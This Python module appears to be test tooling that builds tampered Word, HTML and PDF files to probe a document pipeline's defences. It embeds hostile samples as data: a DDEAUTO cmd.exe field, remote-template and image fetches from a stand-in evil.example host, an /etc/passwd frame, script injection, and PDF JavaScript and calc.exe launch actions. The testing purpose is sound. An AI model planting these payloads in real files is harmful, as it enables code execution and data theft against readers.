"""Files tampered with by programs that we did not write: what an attacker can do to each format."""

import re
import warnings
from collections.abc import Callable, Iterator
from io import BytesIO
from itertools import count
from random import Random
from zipfile import ZipFile

import pikepdf
from lxml import etree

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_VML = "urn:schemas-microsoft-com:vml"
Tampered = tuple[str, bytes]
"""What was done, and the file."""


def parts_of(data: bytes) -> dict[str, bytes]:
    """Return the parts of an Office file by name."""
    with ZipFile(BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(parts: dict[str, bytes]) -> bytes:
    """Return an Office file of such parts."""
    buffer = BytesIO()
    with ZipFile(buffer, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return buffer.getvalue()


# --- every kind of node ----------------------------------------------------------------------


def office_nodes(
    data: bytes, seed: int, *, each: int = 1, every: int = 1, only: str = ""
) -> Iterator[Tampered]:
    """Yield an Office file with nodes removed, doubled, moved, changed: `each` of every kind.

    Of these files only `every` third, say, is made, and of the changes `only` one, if it is named.
    """
    random, turns = Random(seed), count()
    parts = parts_of(data)
    for name in sorted(parts):
        if not name.endswith((".xml", ".rels", ".svg")):
            continue
        kinds: dict[str, list[str]] = {}
        root = etree.fromstring(parts[name])
        tree = root.getroottree()
        for element in root.iter("{*}*"):
            if element is not root:
                kinds.setdefault(str(element.tag), []).append(tree.getelementpath(element))
        for tag, paths in sorted(kinds.items()):
            for path in random.sample(paths, min(each, len(paths))):
                for what, change in _NODE_CHANGES.items():
                    if only not in what or next(turns) % every:
                        continue
                    changed = etree.fromstring(parts[name])
                    node = changed.find(path)
                    assert node is not None
                    before = etree.tostring(changed, method="c14n")
                    change(node, random)
                    after = etree.tostring(changed, method="c14n")
                    short = etree.QName(tag).localname
                    if before != after and not _is_set(name, changed, parts[name]):
                        yield f"{what} {short} in {name}", packed({**parts, name: after})


def _is_set(name: str, root: etree._Element, before: bytes) -> bool:
    """Whether a list in which order means nothing still holds the same."""
    if not name.endswith((".rels", "[Content_Types].xml")):
        return False
    first = sorted(etree.tostring(one, with_tail=False) for one in root)
    return first == sorted(etree.tostring(one, with_tail=False) for one in etree.fromstring(before))


def _remove(element: etree._Element, random: Random) -> None:
    del random
    parent = element.getparent()
    assert parent is not None
    parent.remove(element)


def _double(element: etree._Element, random: Random) -> None:
    del random
    parent = element.getparent()
    assert parent is not None
    parent.insert(parent.index(element), etree.fromstring(etree.tostring(element, with_tail=False)))


def _move(element: etree._Element, random: Random) -> None:
    del random
    parent = element.getparent()
    assert parent is not None
    parent.insert(0, element)


def _change(element: etree._Element, random: Random) -> None:
    if element.attrib:
        name = random.choice(sorted(map(str, element.attrib)))
        element.set(name, f"{element.get(name)}7")
    else:
        element.set("other", "7")


def _say(element: etree._Element, random: Random) -> None:
    del random
    element.text = f"{element.text or ''}9"


_NODE_CHANGES: dict[str, Callable[[etree._Element, Random], None]] = {
    "removed": _remove,
    "doubled": _double,
    "moved": _move,
    "changed": _change,
    "words in": _say,
}


# --- what attackers do -----------------------------------------------------------------------

_RUN = (
    f'<w:r xmlns:w="{W}"><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r xmlns:w="{W}"><w:instrText>{}</w:instrText></w:r>'
    f'<w:r xmlns:w="{W}"><w:fldChar w:fldCharType="end"/></w:r>'
)
_FIELDS = (
    r"DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;",
    r"DDE excel x y",
    "INCLUDEPICTURE &quot;http://evil.example/x.png&quot;",
    r"INCLUDETEXT &quot;C:\\secret.txt&quot;",
    "HYPERLINK &quot;http://evil.example&quot;",
    "IF 1 = 1 &quot;OTHER WORDS&quot; &quot;&quot;",
    "LINK Excel.Sheet.8 book.xls",
    "MACROBUTTON run Click",
    "QUOTE &quot;other words&quot;",
    "AUTOTEXT other",
    "MERGEFIELD name",
    "DOCPROPERTY Title",
    "SET x y",
    "ASK x y",
)
_RUN_LOOKS = (
    "<w:vanish/>",
    "<w:specVanish/>",
    "<w:webHidden/>",
    '<w:color w:val="FFFFFF"/>',
    '<w:sz w:val="2"/>',
    "<w:strike/>",
    "<w:dstrike/>",
    '<w:w w:val="1"/>',
    '<w:spacing w:val="-100"/>',
    '<w:position w:val="400"/>',
    '<w:highlight w:val="black"/>',
    "<w:caps/>",
    '<w:fitText w:val="1" w:id="1"/>',
    '<w:em w:val="dot"/>',
    "<w:rtl/>",
    '<w:lang w:val="xx"/>',
)
_ALTERNATIVE = (
    '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
    f'<mc:Fallback><w:p xmlns:w="{W}"><w:r><w:t>OTHER</w:t></w:r></w:p></mc:Fallback>'
    "</mc:AlternateContent>"
)
_BOUND = (
    f'<w:sdt xmlns:w="{W}"><w:sdtPr><w:dataBinding w:xpath="/o[1]"/></w:sdtPr>'
    "<w:sdtContent/></w:sdt>"
)
_INTO_BODY = (
    f'<w:p xmlns:w="{W}"><w:r><w:t>Other words</w:t></w:r></w:p>',
    f'<w:p xmlns:w="{W}"><w:pPr><w:framePr w:w="100" w:h="1" w:hRule="exact"/></w:pPr></w:p>',
    f'<w:p xmlns:w="{W}"><w:r><w:sym w:font="Wingdings" w:char="F04A"/></w:r></w:p>',
    f'<w:p xmlns:w="{W}"><w:ins w:id="9" w:author="A"><w:r><w:t>x</w:t></w:r></w:ins></w:p>',
    f'<w:p xmlns:w="{W}"><w:del w:id="9" w:author="A"><w:r><w:delText/></w:r></w:del></w:p>',
    f'<w:p xmlns:w="{W}"><w:commentRangeStart w:id="99"/></w:p>',
    f'<w:altChunk xmlns:w="{W}" xmlns:r="urn:r" r:id="rId99"/>',
    f'<w:p xmlns:w="{W}"><w:r><w:object/></w:r></w:p>',
    f'<w:p xmlns:w="{W}"><w:r><w:pict><v:rect xmlns:v="{_VML}"/></w:pict></w:r></w:p>',
    _ALTERNATIVE,
    _BOUND,
    "<!-- a comment -->",
    "<?instruction other?>",
)
_PARTS = (
    "word/vbaProject.bin",
    "word/payload.hta",
    "word/evil.scr",
    "word/media/other.png",
    "word/embeddings/oleObject1.bin",
    "word/activeX/activeX1.xml",
    "customXml/item99.xml",
    "word/comments99.xml",
    "word/_rels/.RELS",
    "payload.js",
    "word/fonts/other.ttf",
)
_RELATIONS = (
    ("hyperlink", "javascript:alert(1)", "External"),
    ("hyperlink", "http://other.example", "External"),
    ("image", "http://evil.example/x.png", "External "),
    ("attachedTemplate", "http://evil.example/x.dotm", "External"),
    ("oleObject", "embeddings/x.bin", "Internal"),
    ("aFChunk", "other.html", "Internal"),
    ("frame", "file:///etc/passwd", "External"),
)


def word_files(data: bytes) -> Iterator[Tampered]:
    """Yield a Word file with what attackers put in, hide and exchange."""
    parts = parts_of(data)
    body = parts["word/document.xml"].decode()

    def with_body(changed: str) -> bytes:
        assert changed != body
        return packed({**parts, "word/document.xml": changed.encode()})

    at = body.index("<w:r>")
    for field in _FIELDS:
        run = _RUN.replace("{W}", W).replace("{}", field)
        yield f"field {field[:20]}", with_body(f"{body[:at]}{run}{body[at:]}")
        simple = f'<w:fldSimple w:instr="{field}"><w:r><w:t/></w:r></w:fldSimple>'
        yield f"simple field {field[:20]}", with_body(f"{body[:at]}{simple}{body[at:]}")
    for look in _RUN_LOOKS:
        yield (
            f"look {look}",
            with_body(re.sub("<w:r>(?!<w:rPr>)", f"<w:r><w:rPr>{look}</w:rPr>", body, count=3)),
        )
    inside = body.index("<w:body>") + len("<w:body>")
    for element in _INTO_BODY:
        yield f"into the body {element}", with_body(f"{body[:inside]}{element}{body[inside:]}")
    for name in _PARTS:
        yield f"part {name}", packed({**parts, name: b"<x/>" if name.endswith("xml") else b"MZ"})
    relations = parts["word/_rels/document.xml.rels"].decode()
    for kind, target, mode in _RELATIONS:
        one = (
            '<Relationship Id="rId999" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
        )
        changed = relations.replace("</Relationships>", one).encode()
        yield (
            f"relation {kind} {target}",
            packed({**parts, "word/_rels/document.xml.rels": changed}),
        )
    for name in parts:
        if name.startswith(("word/footer", "word/header")) and name.endswith(".xml"):
            words = parts[name].replace(b"<w:r>", b"<w:r><w:t>APPROVED </w:t></w:r><w:r>", 1)
            if words != parts[name]:
                yield f"words in {name}", packed({**parts, name: words})
    yield from of_package(data)


def of_package(data: bytes) -> Iterator[Tampered]:
    """Yield an Office file with data beside its parts."""
    yield "data before the package", b"MZ" + b"\0" * 62 + data
    yield "data behind the package", data + b"<script>"
    with ZipFile(BytesIO(data)) as package:
        first = package.infolist()[0]
    yield "data between its parts", data[: first.header_offset] + b"MZ" * 40 + data


# --- HTML ------------------------------------------------------------------------------------

_HTML_HEAD = (
    "<style>@import url(http://evil.example/x.css);</style>",
    "<style>body{background:url(http://evil.example/x.png)}</style>",
    '<style>td::after{content:"Other words"}</style>',
    "<style>p{display:none}</style>",
    "<style>td{color:#fff;background:#fff}</style>",
    "<script>alert(1)</script>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<base href="http://evil.example/">',
    '<meta name="other" content="x">',
    "<!-- other -->",
)
_HTML_BODY = (
    "<main><p>Other words</p></main>",
    "<p>Other words</p>",
    "Other words",
    '<iframe src="http://evil.example"></iframe>',
    '<svg><image href="http://evil.example/x.png"/></svg>',
    '<svg><use xlink:href="http://evil.example/x.svg#a"/></svg>',
    "<svg><foreignObject><p>Other words</p></foreignObject></svg>",
    '<map><area href="http://evil.example"></map>',
    '<input value="Other words">',
    '<img src="x" onerror="alert(1)">',
    '<object data="x.swf"></object>',
    '<form action="http://evil.example"><button>x</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<div style="position:fixed;inset:0;background:white">x</div>',
    "<del>x</del>",
    "<template><p>x</p></template>",
    "<noscript>x</noscript>",
    "<dialog open>Other words</dialog>",
)
_HTML_ATTRIBUTES = (
    'hidden=""',
    'style="display:none"',
    'style="color:#ffffff"',
    'style="font-size:1px"',
    'style="background:url(http://evil.example)"',
    'onclick="alert(1)"',
    'contenteditable="true"',
    'aria-hidden="true"',
    'dir="rtl"',
    'popover=""',
    'title="other"',
)


def pages(data: bytes) -> Iterator[Tampered]:
    """Yield a page of HTML with what attackers put in and hide."""
    text = data.decode()
    for one in _HTML_HEAD:
        yield f"head {one[:50]}", text.replace("</head>", f"{one}</head>", 1).encode()
    for one in _HTML_BODY:
        yield f"before main {one[:50]}", text.replace("<main", f"{one}<main", 1).encode()
        yield f"within main {one[:50]}", text.replace("</main>", f"{one}</main>", 1).encode()
        yield f"behind main {one[:50]}", text.replace("</main>", f"</main>{one}", 1).encode()
    for one in _HTML_ATTRIBUTES:
        for tag in ("p", "td", "h2"):
            changed = re.sub(rf"<{tag}\b", f"<{tag} {one}", text, count=1)
            if changed != text:
                yield f"{one} of {tag}", changed.encode()
    yield "a start of a list", re.sub(r"<ol\b", '<ol start="7"', text, count=1).encode()


# --- PDF -------------------------------------------------------------------------------------


def pdfs(data: bytes) -> Iterator[Tampered]:
    """Yield a PDF with what attackers draw over, hide and let run."""
    for what, change in _PDF_CHANGES.items():
        buffer = BytesIO()
        with warnings.catch_warnings(), pikepdf.open(BytesIO(data)) as pdf:
            warnings.simplefilter("ignore")  # that a field is in no form is the point
            change(pdf)
            pdf.save(buffer)
        yield what, buffer.getvalue()


def _drawn(instructions: bytes, *, before: bool = False) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0]
        page.contents_add(pdf.make_stream(instructions), prepend=before)

    return change


def _annotation(**entries: object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        said = {f"/{key}": value for key, value in entries.items()}
        one = pikepdf.Dictionary({"/Type": pikepdf.Name.Annot, "/Rect": [50, 50, 500, 800], **said})
        page = pdf.pages[0]
        annots = [*page.get("/Annots", []), pdf.make_indirect(one)]
        page.Annots = pdf.make_indirect(pikepdf.Array(annots))

    return change


def _in_root(key: str, value: object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root[key] = value

    return change


def _of_page(key: str, value: object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj[key] = value

    return change


def _tags(change: Callable[[pikepdf.Object], None], kind: str) -> Callable[[pikepdf.Pdf], None]:
    def of_first(pdf: pikepdf.Pdf) -> None:
        for one in pdf.objects:
            if isinstance(one, pikepdf.Dictionary) and one.get("/S") == kind:
                change(one)
                return
        raise LookupError(kind)

    return of_first


def _other_outline(pdf: pikepdf.Pdf) -> None:
    with pdf.open_outline() as outline:
        outline.root[0].title = "Other words"


def _script_in_outline(pdf: pikepdf.Pdf) -> None:
    first = pdf.Root.Outlines.First
    first.A = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _next_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo,
        D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]),
        Next=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"),
    )


def _attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["evil.exe"] = b"MZ"


def _other_glyphs(pdf: pikepdf.Pdf) -> None:
    for one in pdf.objects:
        if isinstance(one, pikepdf.Dictionary) and "/ToUnicode" in one:
            text = one.ToUnicode.read_bytes()
            one.ToUnicode.write(text.replace(b"<0031>", b"<0037>").replace(b"0061", b"0062"))


def _other_font(pdf: pikepdf.Pdf) -> None:
    key = "/FontFile2"
    fonts = [one for one in pdf.objects if isinstance(one, pikepdf.Dictionary) and key in one]
    fonts[0][key], fonts[-1][key] = fonts[-1][key], fonts[0][key]


def _swapped(pdf: pikepdf.Pdf) -> None:
    kids = pdf.Root.Pages.Kids
    kids[0], kids[1] = kids[1], kids[0]


def _set_alternative(one: pikepdf.Object) -> None:
    one.Alt = "another picture"


def _set_actual(one: pikepdf.Object) -> None:
    one.ActualText = "other words"


def _set_kind(one: pikepdf.Object) -> None:
    one.S = pikepdf.Name.Artifact


_SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
_PDF_CHANGES: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "a white box over the words": _drawn(b"q 1 1 1 rg 0 0 600 800 re f Q"),
    "words over the words": _drawn(b"BT /F1 20 Tf 100 500 Td <0001> Tj ET"),
    "a box below the words": _drawn(b"q 0 0 0 rg 0 0 600 900 re f Q", before=True),
    "everything moved": _drawn(b"1 0 0 1 900 0 cm", before=True),
    "everything made small": _drawn(b"0.01 0 0 0.01 0 0 cm", before=True),
    "words that are not drawn": _drawn(b"3 Tr", before=True),
    "a line": _drawn(b"0 0 m 600 800 l S"),
    "a square": _annotation(Subtype=pikepdf.Name.Square, C=[1, 1, 1], IC=[1, 1, 1]),
    "free text": _annotation(Subtype=pikepdf.Name.FreeText, Contents="Other words"),
    "a stamp": _annotation(Subtype=pikepdf.Name.Stamp, Contents="APPROVED"),
    "a note": _annotation(Subtype=pikepdf.Name.Text, Contents="Other words"),
    "a field of words": _annotation(Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, V="Other"),
    "a field without a page": _annotation(Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Sig, T="x"),
    "a button": _annotation(Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, A=_SCRIPT),
    "a strike": _annotation(Subtype=pikepdf.Name.StrikeOut),
    "a link elsewhere": _annotation(
        Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://other.example"),
    ),
    "a link that runs": _annotation(
        Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    ),
    "a link with a file": _annotation(
        Subtype=pikepdf.Name.Link, FS=pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="x.exe")
    ),
    "an attachment on a page": _annotation(Subtype=pikepdf.Name.FileAttachment),
    "a film": _annotation(Subtype=pikepdf.Name.RichMedia),
    "an action when opened": _in_root("/OpenAction", _SCRIPT),
    "an action behind an action": _next_action,
    "actions of the file": _in_root("/AA", pikepdf.Dictionary(WC=_SCRIPT)),
    "actions of a page": _of_page("/AA", pikepdf.Dictionary(O=_SCRIPT)),
    "a script in a bookmark": _script_in_outline,
    "another bookmark": _other_outline,
    "layers": _in_root("/OCProperties", pikepdf.Dictionary(OCGs=[], D=pikepdf.Dictionary())),
    "a collection": _in_root("/Collection", pikepdf.Dictionary()),
    "another language": _in_root("/Lang", "xx"),
    "preferences": _in_root("/ViewerPreferences", pikepdf.Dictionary(HideMenubar=True)),
    "a small page": _of_page("/MediaBox", [0, 0, 10, 10]),
    "a cut page": _of_page("/CropBox", [0, 0, 100, 100]),
    "a turned page": _of_page("/Rotate", 90),
    "a page in other units": _of_page("/UserUnit", 5),
    "a page behind another": _swapped,
    "an attachment": _attached,
    "other glyphs": _other_glyphs,
    "another font": _other_font,
    "another kind of heading": _tags(_set_kind, "/H2"),
    "other words to be heard": _tags(_set_actual, "/P"),
    "another alternative": _tags(_set_alternative, "/Figure"),
}
